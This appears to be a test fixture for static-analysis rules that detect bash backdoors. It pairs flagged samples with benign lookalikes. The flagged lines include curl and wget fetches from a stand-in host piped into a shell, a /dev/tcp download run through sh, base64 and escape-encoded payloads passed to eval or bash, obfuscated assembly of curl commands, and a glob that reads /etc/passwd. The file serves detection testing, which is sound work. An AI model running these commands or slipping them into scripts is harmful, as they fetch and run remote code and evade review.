#!/bin/bash

# ruleid: bash.backdoor.detour-to-shell
curl -s https://drop.example/x | "$SHELL"
# ruleid: bash.backdoor.detour-to-shell
curl -s https://drop.example/x | tee /opt/x/log | $(command -v bash)
# ruleid: bash.backdoor.detour-to-shell
wget -qO- https://drop.example/x | busybox sh
# ruleid: bash.backdoor.detour-to-shell
curl -s https://drop.example/x | source /dev/stdin
# ruleid: bash.backdoor.detour-to-shell
echo "$TEXT" | base64 -d | xargs -I{} sh -c {}
# ruleid: bash.backdoor.detour-to-shell
curl -s https://drop.example/x | while read -r line; do eval "$line"; done
# ruleid: bash.backdoor.detour-to-shell
source /dev/stdin <<< "$(curl -s https://drop.example/x)"
# ruleid: bash.backdoor.detour-to-shell
cat < /dev/tcp/203.0.113.7/80 | sh
# ruleid: bash.backdoor.detour-to-shell
runner=/bin/bash
curl -s https://drop.example/x | $runner
# ok: bash.backdoor.detour-to-shell
curl -s https://api.corp.example/v1/names | while read -r name; do echo "$name"; done
# ok: bash.backdoor.detour-to-shell
curl -s https://api.corp.example/v1/ids | xargs -n1 sh ./delete.sh
# ok: bash.backdoor.detour-to-shell
curl -s https://api.corp.example/v1/names | "$JQ" -r .name
# ok: bash.backdoor.detour-to-shell
echo "started by $SHELL" | logger

# ruleid: bash.backdoor.run-from-variable
payload=$(echo "$TEXT" | base64 -d)
eval "$payload"
# ruleid: bash.backdoor.run-from-variable
body="$(curl -s https://drop.example/x)"
echo "$body" | bash
# ruleid: bash.backdoor.run-from-variable
steps="$(wget -qO- https://drop.example/x)"; bash <<< "$steps"
# ruleid: bash.backdoor.run-from-variable
word=$(echo aWQ= | base64 -d); $word
# ruleid: bash.backdoor.run-from-variable
get="curl -s https://drop.example/x"
$get | sh
# ok: bash.backdoor.run-from-variable
version=$(curl -s https://api.corp.example/v1/version)
echo "$version" | tee version.txt
# ok: bash.backdoor.run-from-variable
certificate=$(echo "$CERTIFICATE" | base64 -d)
printf '%s\n' "$certificate" > certificate.pem
# ok: bash.backdoor.run-from-variable
token=$(kubectl get secret app -o jsonpath='{.data.token}' | base64 -d); deploy "$token"
# ok: bash.backdoor.run-from-variable
ask="curl -s https://api.corp.example/v1/version"
$ask | jq -r .version

# ruleid: bash.backdoor.escapes-run
printf '%b' '\x69\x64' | bash
# ruleid: bash.backdoor.escapes-run
echo -e '\151\144' | sudo sh
# ruleid: bash.backdoor.escapes-run
bash <<< "$(printf '\151\144')"
# ruleid: bash.backdoor.escapes-run
echo vq | tr 'a-z' 'n-za-m' | sh
# ruleid: bash.backdoor.escapes-run
$(tr a-z n-za-m <<< vq) -u
# ok: bash.backdoor.escapes-run
printf '\033[32m%s\033[0m\n' "done" | tee -a run.log
# ok: bash.backdoor.escapes-run
printf '%s\n' "uptime" | bash
# ok: bash.backdoor.escapes-run
name="$(printf '\303\244')"
# ok: bash.backdoor.escapes-run
echo "$NAME" | tr 'a-z' 'A-Z' | sh ./greet.sh

# ruleid: bash.backdoor.assembled-command
{curl,-s,https://drop.example/x}
# ruleid: bash.backdoor.assembled-command
IFS=,; get='curl,-s,https://drop.example/x'; $get
# ruleid: bash.backdoor.assembled-command
${text:0:1}ur${text:1:1} -s https://drop.example/x
# ruleid: bash.backdoor.assembled-command
cu$@rl -s https://drop.example/x
# ruleid: bash.backdoor.assembled-command
first=cu; second=rl; $first$second -s https://drop.example/x
# ruleid: bash.backdoor.assembled-command
/???/c?t /???/p??s??
# ok: bash.backdoor.assembled-command
mkdir -p build/{debug,release}
# ok: bash.backdoor.assembled-command
IFS=,; read -r name mail <<< "$row"
# ok: bash.backdoor.assembled-command
short="${commit:0:8}-${branch:0:12}"
# ok: bash.backdoor.assembled-command
base=/opt/app; "$base/bin/start"
# ok: bash.backdoor.assembled-command
rm -f /var/log/app/old.?
